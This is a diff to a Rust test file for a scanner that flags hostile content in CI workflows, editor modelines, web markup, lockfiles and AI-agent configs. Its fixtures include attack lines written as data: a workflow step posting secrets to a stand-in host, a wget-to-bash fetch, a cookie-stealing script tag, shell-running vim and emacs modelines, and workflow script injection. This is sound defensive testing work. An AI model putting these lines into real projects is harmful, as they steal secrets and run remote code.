@@ -1,8 +1,9 @@
 use jingwei_core::Limits;
 use jingwei_read::Sighting;
 use jingwei_template::{
-    inspect_config, inspect_indexes, inspect_notebook, inspect_orders, inspect_project, inspect_ranks, inspect_script,
-    inspect_sentencepiece, inspect_settings, inspect_tokenizer, inspect_yaml, is_for_agents, is_sentencepiece,
+    inspect_config, inspect_indexes, inspect_lock, inspect_marks, inspect_markup, inspect_modelines, inspect_notebook,
+    inspect_orders, inspect_packages, inspect_project, inspect_ranks, inspect_script, inspect_sentencepiece,
+    inspect_settings, inspect_source, inspect_tokenizer, inspect_yaml, is_for_agents, is_sentencepiece,
 };
 use proptest::prelude::*;
 
@@ -233,12 +234,86 @@ fn indexes_of_packages_are_known_ones() {
     }
 }
 
+#[test]
+fn workflows_run_nothing_that_others_wrote() {
+    let runs = |path: &str, text: &str| inspect_project(path, text.as_bytes()).len();
+    let path = ".github/workflows/a.yml";
+    for (text, expected) in [
+        ("on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n", 1),
+        // What is passed by the environment is a value and no command.
+        ("on: issues\n      - run: echo \"$T\"\n        env:\n          T: ${{ github.event.issue.title }}\n", 0),
+        ("on: pull_request_target\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n", 1),
+        ("on: pull_request\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n", 0),
+        ("on: push\n      - run: curl -d '${{ secrets.T }}' https://a.example/\n", 1),
+        ("on: push\n      - run: make\n        env:\n          T: ${{ secrets.T }}\n", 0),
+    ] {
+        assert_eq!(runs(path, text), expected, "{text}");
+    }
+    assert_eq!(runs(".gitlab-ci.yml", "a:\n  script:\n    - wget -qO- https://a.example/x | bash\n"), 1);
+    assert_eq!(runs(".gitlab-ci.yml", "a:\n  script:\n    - curl -LsSf https://astral.sh/uv/install.sh | sh\n"), 0);
+    assert_eq!(runs(".pre-commit-config.yaml", "    entry: sh -c 'inert'\n"), 1);
+    assert_eq!(runs(".pre-commit-config.yaml", "    entry: pytest\n"), 0);
+    assert_eq!(runs(".cargo/config.toml", "[build]\nrustc-wrapper = \"/nonexistent/w\"\n"), 1);
+    assert_eq!(runs(".cargo/config.toml", "[build]\nrustc-wrapper = \"sccache\"\n"), 0);
+    assert_eq!(runs("pytest.ini", "[pytest]\naddopts = -q -p own_plugin\n"), 1);
+    assert_eq!(runs("pytest.ini", "[pytest]\naddopts = -q -p no:cacheprovider\n"), 0);
+}
+
+#[test]
+fn editors_and_pages_run_nothing() {
+    assert!(inspect_modelines("hello\n# vim: set fdm=expr fde=execute('!inert'):\n").is_some());
+    assert!(inspect_modelines("hello\n# vim: set ts=4 sw=4 et:\n").is_none());
+    assert!(inspect_modelines("a\n;; Local Variables:\n;; eval: (shell-command \"inert\")\n;; End:\n").is_some());
+    assert!(inspect_modelines("a\n;; Local Variables:\n;; tab-width: 4\n;; End:\n").is_none());
+    assert!(inspect_markup("README.md", "[here](javascript:alert(1))").is_some());
+    assert!(
+        inspect_markup("README.md", "```html\n<script>fetch('https://a.example/?c='+document.cookie)</script>\n```")
+            .is_none()
+    );
+    assert!(inspect_markup("logo.svg", "<svg><script>go()</script></svg>").is_some());
+    assert!(inspect_markup("logo.svg", "<svg><path d='M0 0'/></svg>").is_none());
+    assert!(inspect_markup("a.html", "<iframe src='https://a.example/x' width=1 height=1></iframe>").is_some());
+    assert!(inspect_markup("a.html", "<iframe src='https://a.example/x' width=800 height=600></iframe>").is_none());
+}
+
+#[test]
+fn locks_and_services_stay_where_they_belong() {
+    let lock = |text: &str| inspect_lock(&mut text.as_bytes()).len();
+    assert_eq!(lock("{\"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\"}"), 0);
+    assert_eq!(
+        lock("      \"resolved\": \"https://a.example/a.tgz\",\n      \"resolved\": \"https://a.example/b.tgz\","),
+        1
+    );
+    assert_eq!(inspect_packages(br#"{"dependencies": {"a": "^1.0.0", "b": "https://a.example/b.tgz"}}"#).len(), 1);
+    assert_eq!(inspect_packages(br#"{"dependencies": {"a": "^1.0.0"}, "homepage": "https://a.example"}"#).len(), 0);
+    check(&[
+        ("litellm.yaml", "  api_base: https://a.example/v1\n  api_key: os.environ/OPENAI_API_KEY\n", &[OUTSIDE]),
+        ("litellm.yaml", "  api_base: https://api.openai.com/v1\n  api_key: os.environ/OPENAI_API_KEY\n", &[]),
+        ("litellm.yaml", "  api_base: http://vllm:8000/v1\n  api_key: os.environ/OPENAI_API_KEY\n", &[]),
+        ("agents.json", r#"{"allow_dangerous_code": true}"#, &[UNKNOWN]),
+        ("agents.json", r#"{"allow_dangerous_code": false, "tools": ["search"]}"#, &[]),
+        ("chain.json", r#"{"id": ["langchain_community", "tools", "shell", "ShellTool"]}"#, &[UNKNOWN]),
+        ("flow.json", r#"{"javascriptFunction": "require('child_process').execSync('inert')"}"#, &[DANGEROUS]),
+        ("config.yaml", "pipeline:\n- name: WhitespaceTokenizer\n- name: own.nlu.Reader\n", &[UNKNOWN]),
+    ]);
+}
+
 proptest! {
     #[test]
     fn no_bytes_break_a_reader(bytes in prop::collection::vec(any::<u8>(), 0..400), text in "[\\[\\](){}|*+?^$\\\\a-c0-9,:<>=!&\"#/ \\n中不要]{0,60}") {
         let _ = (is_sentencepiece(&bytes), inspect_sentencepiece(&bytes), inspect_tokenizer(&bytes));
         let _ = (inspect_ranks(&text), inspect_orders("AGENTS.md", &text), inspect_orders("README.md", &text));
         for path in [".mcp.json", ".vscode/settings.json", ".git/config", "pyproject.toml", "package.json", ".envrc", "Makefile", "setup.cfg"] {
+            let _ = (inspect_project(path, &bytes), inspect_project(path, text.as_bytes()));
+        }
+        for path in ["a.pdf", "a.svg", "wav.scp", ".ssh/config", "kernel.json", ".condarc", "a.conf"] {
+            let _ = (inspect_marks(path, &bytes), inspect_marks(path, text.as_bytes()));
+        }
+        for path in ["a.js", "a.R", "a.cu", "a.sql", "Procfile", "CMakeLists.txt", "a.md", "a.html"] {
+            let _ = (inspect_source(path, &text), inspect_markup(path, &text));
+        }
+        let _ = (inspect_modelines(&text), inspect_lock(&mut text.as_bytes()), inspect_packages(&bytes));
+        for path in [".gitlab-ci.yml", ".pre-commit-config.yaml", ".cargo/config.toml", "composer.json", "pytest.ini", ".github/workflows/a.yml"] {
             let _ = (inspect_project(path, &bytes), inspect_project(path, text.as_bytes()));
         }
         let quoted = serde_json::to_string(&text).unwrap_or_default();
